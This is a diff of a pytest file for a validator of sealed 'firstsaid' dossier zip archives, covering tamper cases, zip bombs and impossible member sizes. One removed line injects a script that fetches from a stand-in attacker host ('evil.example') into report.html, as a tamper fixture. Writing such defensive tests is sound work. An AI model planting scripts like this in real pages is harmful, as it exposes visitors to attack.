@@ -115,8 +115,10 @@ def _change_quotation(held, manifest):
     held[REPORT] = held[REPORT].replace(b"eleven days", b"twelve days")
 
 
-def _put_in_script(held, manifest):
-    held[REPORT] = held[REPORT].replace(b"</main>", b"<script>fetch('https://evil.example')</script></main>")
+def _not_a_number(held, manifest):
+    contract = json.loads(held[CONTRACT])
+    contract["articles"][0]["parts"][0]["start"] = float("inf")
+    held[CONTRACT] = json.dumps(contract).encode()
 
 
 def _no_contract(held, manifest):
@@ -134,11 +136,12 @@ def _no_contract(held, manifest):
         (_move_span, "contract.json, statements 4: the place 4 to 10000000 does not lie in the stored text"),
         (_change_text, "report.html: “.*” does not stand at"),
         (_change_quotation, "report.html: “.*” does not stand at"),
-        (_put_in_script, "report.html holds a script"),
+        (_not_a_number, "contract.json is not as firstsaid writes it"),
         (_no_contract, "contract.json is not as firstsaid writes it"),
         (lambda held, manifest: held.update({JUDGEMENTS: b"7"}), "judgements.json is not as firstsaid writes it"),
         (lambda held, manifest: held.update({JUDGEMENTS: b'[{"number": 1}]'}), "judgements.json is not as firstsaid writes it"),
-        (lambda held, manifest: held.update({REPORT: b""}), "report.html is no page"),
+        (lambda held, manifest: held.update({REPORT: b""}), "report.html holds what a report of ours never does"),
+        (lambda held, manifest: held.update({REPORT: held[REPORT] + b"\xff"}), "report.html is not as firstsaid writes it"),
         (lambda held, manifest: held.update({CONTRACT: b'{"articles": [{"id": "1", "text": 4}]}'}), "holds an article whose text is none"),
         (lambda held, manifest: manifest.update(evidence=3), "manifest.json is not as firstsaid writes it"),
         (lambda held, manifest: manifest.update(format="firstsaid dossier 9"), "one of a newer version"),
@@ -191,6 +194,19 @@ def test_links_bombs_doubles_and_strangers_are_not_read(make_zip, tmp_path):
     (tmp_path / "bomb.zip").write_bytes(bomb.getvalue())
     with pytest.raises(CaseError, match="holds more than the 10 bytes"):
         check_sealed(tmp_path / "bomb.zip")
+
+
+@pytest.mark.parametrize(
+    ("size", "complaint"),
+    [(1 << 30, "is more than is read of a file of its size"), (float("inf"), "does not list the members"), (-5, "holds more than the -5")],
+)
+def test_a_size_that_cannot_be_is_told_before_anything_is_unpacked(tmp_path, size, complaint):
+    with zipfile.ZipFile(tmp_path / "small.zip", "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("README.txt", b"x")
+        rows = [{"name": "README.txt", "bytes": size, "sha256": "0" * 64}]
+        archive.writestr(MANIFEST, json.dumps({"format": "firstsaid dossier 1", "members": rows}))
+    with pytest.raises(CaseError, match=complaint):
+        check_sealed(tmp_path / "small.zip")
 
 
 @pytest.mark.parametrize("data", [b"", b"PK\x05\x06" + b"\0" * 18, b"no zip", b'{"format": 1}'])
